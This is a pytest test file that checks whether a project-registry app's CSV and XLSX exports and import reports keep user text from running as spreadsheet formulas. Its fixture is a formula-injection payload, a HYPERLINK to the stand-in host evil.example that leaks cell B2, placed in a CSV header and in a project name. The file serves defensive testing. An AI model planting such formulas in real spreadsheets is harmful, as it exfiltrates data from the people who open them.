"""Formula-safe cells: text from users reaches every CSV/XLSX the app writes as text, never a formula."""
from __future__ import annotations

import io
import re

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from registry.cells import append_xlsx_row, csv_row
from conftest import insert_grid_district

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"点此查看")'
CSV = ("项目代码,项目名称,领域,建设单位,经度,纬度,总投资（万元）,项目阶段," + EVIL.replace('"', '""').join('""') + "\n"
       "2025-370499-01-01-800001,甲街道供热计量改造,建筑,甲热力,117.05,35.05,300,谋划储备,x\n")


def _no_formulas(workbook_bytes_or_path) -> list[str]:
    """Every text cell of the workbook; fails if any cell is a formula."""
    source = io.BytesIO(workbook_bytes_or_path) if isinstance(workbook_bytes_or_path, bytes) else workbook_bytes_or_path
    workbook = load_workbook(source)
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


@pytest.mark.parametrize("write_only", [False, True])
def test_text_starting_with_equals_is_stored_as_text(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("s") if write_only else workbook.active
    append_xlsx_row(sheet, [EVIL, "=1+1", "+1", -5, None, "bad\x00\x01 control"])
    out = io.BytesIO()
    workbook.save(out)
    texts = _no_formulas(out.getvalue())
    assert EVIL in texts and "=1+1" in texts and "bad control" in texts


def test_csv_text_that_would_run_as_a_formula_gets_an_apostrophe():
    assert csv_row([EVIL, "-x", "@SUM(A1)", "\tcmd", "plain", -5, None]) == [
        "'" + EVIL, "'-x", "'@SUM(A1)", "'\tcmd", "plain", "-5", ""]


def test_cli_import_report_keeps_a_formula_header_as_text(committed, engine, tmp_path):
    from sqlalchemy.orm import Session
    with Session(engine) as session:
        insert_grid_district(session)
        session.commit()
    source = tmp_path / "evil.csv"
    source.write_text(CSV, encoding="utf-8")
    report = tmp_path / "r.xlsx"
    from web.cli import main
    result = CliRunner().invoke(main, ["projects", "import", str(source), "--dry-run", "--report", str(report)])
    assert result.exit_code in (0, 1), result.output
    assert any(EVIL in text for text in _no_formulas(report))


def test_web_import_report_keeps_a_formula_header_as_text(client_for, web_data, app, tmp_path):
    app.config["UPLOAD_DIR"] = str(tmp_path)
    bureau = client_for("bureau")
    page = bureau.post("/imports/preview", data={"file": (io.BytesIO(CSV.encode()), "evil.csv")},
                       content_type="multipart/form-data")
    token = re.search(r'/imports/([\w-]+)/report\.xlsx', page.get_data(as_text=True))[1]
    response = bureau.get(f"/imports/{token}/report.xlsx")
    assert response.status_code == 200
    assert any(EVIL in text for text in _no_formulas(response.data))


def test_exports_keep_a_formula_project_name_as_text(client, web_data, engine):
    from sqlalchemy import text
    with engine.begin() as conn:
        conn.execute(text("UPDATE projects SET name = :n WHERE code = '2024-370499-01-01-100001'"), {"n": EVIL})
    xlsx = client.get("/export/download?format=xlsx")
    csv_text = client.get("/export/download?format=csv").data.decode("utf-8-sig")
    assert xlsx.status_code == 200
    assert "'" + EVIL.replace('"', '""') in csv_text
    assert EVIL in _no_formulas(xlsx.data)
